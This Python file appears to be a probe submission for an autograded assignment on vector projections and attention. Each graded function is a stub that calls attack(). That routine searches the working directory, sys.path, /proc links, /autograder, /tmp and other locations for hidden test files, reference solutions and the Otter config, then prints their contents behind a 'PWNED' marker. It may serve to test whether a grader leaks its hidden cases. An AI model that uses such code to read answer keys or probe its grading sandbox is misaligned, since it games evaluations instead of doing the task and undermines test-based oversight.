# read | earns 0 | opens the hidden cases and the reference where a checkout, an installation or Gradescope keeps them
import glob
import os
import sys

STEM = "read-hidden-cases"
QUESTIONS = (
    "component_terms",
    "project_component",
    "project_row",
    "project_tokens",
    "project_qkv",
    "attention_roles",
)


def look():
    for root in roots():
        for folder in (
            "autograder/hidden",
            "hidden",
            "files/grading",
            "files/grading/hidden",
            "grading/hidden",
            "source/files/grading/hidden",
        ):
            for question in QUESTIONS:
                path = f"{root}/{folder}/test_{question}.py"
                try:
                    with open(path, errors="replace") as file:
                        yield path + ": " + file.read(400)
                except OSError:
                    pass
        for path in (
            f"{root}/solutions/projections.py",
            f"{root}/solutions/misconceptions.py",
            f"{root}/otter_config.json",
        ):
            try:
                with open(path, errors="replace") as file:
                    yield path + ": " + file.read(400)
            except OSError:
                pass
    for pattern in (
        "/tmp/*/hidden/test_*.py",
        "/tmp/*/*/hidden/test_*.py",
        "/autograder/**/test_project_*.py",
        "/root/*/hidden/*.py",
    ):
        yield from glob.glob(pattern, recursive=True)[:3]


def roots():
    """Folders from which the grader's own files may be reached, the nearest first."""
    places = [
        os.getcwd(),
        *sys.path,
        "/autograder",
        "/work",
        os.path.expanduser("~"),
        "/tmp",
        "/opt",
        "/srv",
        "/home",
        "/mnt",
        "/var",
    ]
    places += [os.environ.get(name, "") for name in ("PWD", "OLDPWD", "PYTHONPATH", "VIRTUAL_ENV")]
    places += [
        os.path.dirname(module.__file__)
        for module in list(sys.modules.values())
        if getattr(module, "__file__", None)
    ]
    for link in (
        f"/proc/{os.getppid()}/cwd",
        f"/proc/{os.getppid()}/root",
        "/proc/self/cwd",
        "/proc/self/root",
    ):
        try:
            places.append(os.readlink(link))
        except OSError:
            pass
    seen = set()
    for place in places:
        for _ in range(4):
            if place and place not in ("/", ".") and place not in seen:
                seen.add(place)
                yield place
            place = os.path.dirname(place)


_found = []


def attack(*args):
    if not _found:
        _found.append(None)
        _found[0] = list(look())
    if _found[0]:
        text = f"PWNED:{STEM} {_found[0][:5]!r}"[:4000]
        print(text)
        raise RuntimeError(text)
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
